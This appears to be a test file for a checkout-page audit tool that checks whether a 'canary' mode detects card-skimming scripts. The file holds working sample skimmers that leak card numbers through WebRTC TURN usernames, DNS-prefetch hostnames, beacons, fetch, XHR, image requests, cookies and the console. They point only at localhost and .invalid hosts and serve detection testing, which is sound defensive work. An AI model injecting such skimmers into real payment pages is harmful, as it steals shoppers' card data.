import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditPage } from '../../src/audit/audit.js';
import type { CanaryResult } from '../../src/audit/canary/canary.js';
import { cleanShop, type ShopScript } from './shop.js';
import { browser, canaryLeaks as leaks, onSubmit, site, useSkimmedShop } from './skimmed-shop.js';

useSkimmedShop();

/** The clean shop with `skimmer` as one more script, audited with the canary. */
async function canary(skimmers: ShopScript[]): Promise<CanaryResult> {
  cleanShop(site, skimmers);
  const run = await auditPage(browser, {
    url: `${site.origin}/checkout`,
    canary: true,
    integrityFile: 'dist/integrity.json',
  });
  return run.canary!;
}

const seen = (result: CanaryResult, channel: RegExp) =>
  result.channels.find((entry) => channel.test(entry.channel))!;

/** Skimmers, each with the leak that names it and the channel that counts it. */
const SKIMMERS: [name: string, skimmer: string, leak: RegExp, channel: RegExp][] = [
  [
    'the number as a TURN user name',
    onSubmit(
      `new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number, credential: 'x' }] });`,
    ),
    /^WebRTC RTCPeerConnection ICE servers in http:.*: card number, plain/,
    /^WebRTC: ICE servers/,
  ],
  [
    'the number in setConfiguration, in base64',
    onSubmit(`const peer = new RTCPeerConnection();
peer.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: 'u', credential: btoa(number) }] });`),
    /^WebRTC setConfiguration ICE servers in .*: base64 of card number, plain/,
    /^WebRTC: ICE servers/,
  ],
  [
    'the number on a data channel between two peers of the page',
    onSubmit(`const a = new RTCPeerConnection();
const b = new RTCPeerConnection();
a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
const channel = a.createDataChannel('x');
channel.onopen = () => channel.send(number.replace(/(\\d{4})(?=\\d)/g, '$1-'));
a.createOffer().then((offer) => a.setLocalDescription(offer))
  .then(() => b.setRemoteDescription(a.localDescription))
  .then(() => b.createAnswer()).then((answer) => b.setLocalDescription(answer))
  .then(() => a.setRemoteDescription(b.localDescription));`),
    /^WebRTC data channel "x" send in .*: card number, with separators/,
    /^WebRTC data channel sends/,
  ],
  [
    'a dns-prefetch host made of the digits',
    onSubmit(`const link = document.createElement('link');
link.rel = 'dns-prefetch';
link.href = '//' + number + '.skim.invalid';
document.head.append(link);`),
    /^<link rel="dns-prefetch .*\d{16}\.skim\.invalid.*: card number, plain/,
    /^DNS-only hints/,
  ],
  [
    'a preconnect host made of the digits, dotted',
    onSubmit(`const link = document.createElement('link');
link.rel = 'preconnect';
link.href = 'https://' + number.replace(/(\\d{4})(?=\\d)/g, '$1.') + '.skim.invalid';
document.head.append(link);`),
    /^DOM in .*<link> added to <head>: card number, with separators/,
    /^DOM writes/,
  ],
  [
    'the digits in an attribute of the page',
    onSubmit(`document.body.dataset.ref = btoa(number);`),
    /^DOM in .*<body> data-ref: base64 of card number, plain/,
    /^DOM writes/,
  ],
  [
    'the number in two halves by two beacons',
    onSubmit(`navigator.sendBeacon('/half-1', number.slice(0, 8));
navigator.sendBeacon('/half-2', number.slice(8));`),
    /^request POST .*\/half-2: digits after the first 8, plain/,
    /^requests made/,
  ],
  [
    'a request the CSP blocks',
    onSubmit(
      `fetch('http://127.0.0.2:8080/collect', { method: 'POST', body: JSON.stringify({ n: number }) }).catch(() => {});`,
    ),
    /^fetch POST http:\/\/127\.0\.0\.2:8080\/collect in .*, never sent: refused by the browser: card number, plain/,
    /^fetch and XMLHttpRequest/,
  ],
  [
    'a binary XMLHttpRequest the CSP blocks',
    onSubmit(`const request = new XMLHttpRequest();
request.open('POST', 'http://127.0.0.2:8080/xhr');
request.send(new TextEncoder().encode('pan=' + number.slice(8)));`),
    /^XMLHttpRequest POST http:\/\/127\.0\.0\.2:8080\/xhr in .*, never sent: refused by the browser: digits after the first 8, plain/,
    /^fetch and XMLHttpRequest/,
  ],
  [
    'an image the CSP blocks, as the browser refused it',
    onSubmit(`new Image().src = 'http://127.0.0.2:8080/refused.gif?d=' + number.slice(8);`),
    /^request GET http:\/\/127\.0\.0\.2:8080\/refused\.gif\?d=\d{8} refused by the browser \(csp\): digits after the first 8, plain/,
    /^requests refused/,
  ],
  [
    'an image the CSP blocks',
    onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
    /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
    /^CSP violations/,
  ],
  [
    'a cookie',
    onSubmit(`document.cookie = 'basket=' + btoa(number) + '; path=/';`),
    /^cookie basket of 127\.0\.0\.1: base64 of card number, plain/,
    /^the browser's cookies/,
  ],
  [
    'a console write',
    onSubmit(`console.error('card', number.replace(/(\\d{4})(?=\\d)/g, '$1 '));`),
    /^console: card number, with separators/,
    /^console messages/,
  ],
  [
    'a MessagePort',
    onSubmit(`const { port1 } = new MessageChannel();
port1.postMessage({ pan: number });`),
    /^MessagePort\.postMessage in .*: card number, plain/,
    /^postMessage/,
  ],
  [
    "a TURN user name from a fresh frame's RTCPeerConnection",
    onSubmit(`const frame = document.createElement('iframe');
document.body.append(frame);
new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number.replace(/(\\d{4})(?=\\d)/g, '$1 '), credential: 'x' }] });`),
    /^WebRTC RTCPeerConnection ICE servers in about:blank: card number, with separators/,
    /^WebRTC: ICE servers/,
  ],
];

describe('card-tokenizer-audit --canary, every way out', () => {
  it('passes a clean page whose element looks the BIN up, and names that lookup', async () => {
    const lookup = `const host = document.querySelector('card-tokenizer');
host.binLookup = (bin, signal) =>
  fetch('/bin.json', { method: 'POST', body: JSON.stringify({ Type: 'BIN', Bin: bin }), signal })
    .then((response) => response.json());`;
    cleanShop(site, [
      { path: '/network-choice.js', body: readFileSync('dist/network-choice.js', 'utf8') },
      { path: '/lookup.js', body: lookup },
    ]);
    site.files.set(
      '/checkout',
      site.files.get('/checkout')!.replace('<card-tokenizer ', '<card-tokenizer network-choice '),
    );
    site.files.set('/bin.json', '["CB","VISA"]');
    // The page the payment leads to: a form post answered 204 leaves the page's clock unable to jump.
    site.files.set('/pay', '<!doctype html><html lang="en"><title>Thank you</title></html>');
    const run = await auditPage(browser, {
      url: `${site.origin}/checkout`,
      canary: true,
      integrityFile: 'dist/integrity.json',
    });
    const result = run.canary!;
    expect(leaks(result)).toEqual([]);
    expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
    expect(result.binLookups).toEqual([`POST ${site.origin}/bin.json`]);
    // Every channel is listed, and the busy ones show the canary watched them.
    expect(result.channels.map(({ channel }) => channel)).toHaveLength(18);
    expect(result.channels.every(({ leaks }) => leaks === 0)).toBe(true);
    expect(seen(result, /^requests made/).seen).toBeGreaterThan(3);
    expect(seen(result, /^DOM writes/).seen).toBeGreaterThan(0);
    // The checkout after the stay, as the shopper paid, and the page left from.
    expect(seen(result, /^final DOM/).seen).toBe(3);
    expect(result.leftFrom).toBe(`${site.origin}/pay`);
  });

  describe('skimmers, each its own script, in one page', () => {
    let result: CanaryResult;
    beforeAll(async () => {
      result = await canary(
        SKIMMERS.map(([, body], index) => ({ path: `/skimmer-${index}.js`, body })),
      );
      // One canary audit, as long as a test may take (the config's testTimeout).
    }, 120_000);

    it("still stops the element's request alone", () => {
      expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
    });

    it.each(SKIMMERS)('catches %s', (_name, _skimmer, expected, channel) => {
      expect(
        leaks(result).some((leak) => expected.test(leak)),
        leaks(result).join('\n'),
      ).toBe(true);
      expect(seen(result, channel).leaks).toBeGreaterThan(0);
    });
  });
});
